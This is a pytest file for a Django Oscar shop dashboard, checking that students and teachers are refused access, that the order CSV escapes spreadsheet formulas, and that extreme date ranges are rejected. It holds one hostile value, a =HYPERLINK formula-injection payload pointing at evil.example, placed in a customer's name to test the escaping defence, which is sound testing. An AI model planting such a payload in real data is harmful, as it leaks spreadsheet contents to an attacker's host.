"""Oscar's order dashboard: only staff reach it (students and teachers are refused, the CSV
included), and its CSV never carries a live spreadsheet formula."""

import csv
import io

import pytest
from django.contrib.auth.models import Group

from shop.core.roles import STUDENTS, TEACHERS, roles_ensure_groups
from tests.checkout.helpers import ADDRESS, basket_for, gingerbread, russia
from tests.payments.helpers import pay

pytestmark = [pytest.mark.payments, pytest.mark.django_db]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def order(client, django_user_model):
    russia()
    customer = django_user_model.objects.create_user(
        username="tourist", email="tourist@example.com", password="pw-123456"
    )
    client.force_login(customer)
    basket_for(customer, products=[gingerbread(price="500", stock=5)])
    client.post("/shop/checkout/shipping-method/", {"method_code": "post-russia"})
    client.post(
        "/shop/checkout/shipping-address/", {**ADDRESS, "first_name": FORMULA, "country": "RU"}
    )
    placed = pay(client)
    client.logout()
    return placed


def test_the_order_csv_keeps_a_formula_as_text(client, django_user_model, order):
    client.force_login(
        django_user_model.objects.create_superuser(
            username="boss", email="b@example.com", password="x"
        )
    )

    response = client.get("/shop/dashboard/orders/?response_format=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), rows
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.parametrize("group", [STUDENTS, TEACHERS])
def test_students_and_teachers_do_not_reach_oscars_dashboard(client, django_user_model, group):
    roles_ensure_groups()
    member = django_user_model.objects.create_user(username="member", password="x")
    member.groups.add(Group.objects.get(name=group))
    client.force_login(member)

    for url in (
        "/shop/dashboard/",
        "/shop/dashboard/orders/",
        "/shop/dashboard/orders/?response_format=csv",
        "/shop/dashboard/catalogue/",
        "/shop/dashboard/catalogue/product-lookup/?q=x",
    ):
        assert client.get(url).status_code == 403, url


def test_a_date_at_the_end_of_the_calendar_is_refused_with_a_message(client, django_user_model):
    client.force_login(
        django_user_model.objects.create_superuser(
            username="boss", email="b@example.com", password="x"
        )
    )

    response = client.get("/shop/dashboard/orders/?date_from=0001-01-01&date_to=9999-12-31")

    assert response.status_code == 200
    assert "Выберите дату с 2000-01-01 по 2099-12-31" in response.content.decode()
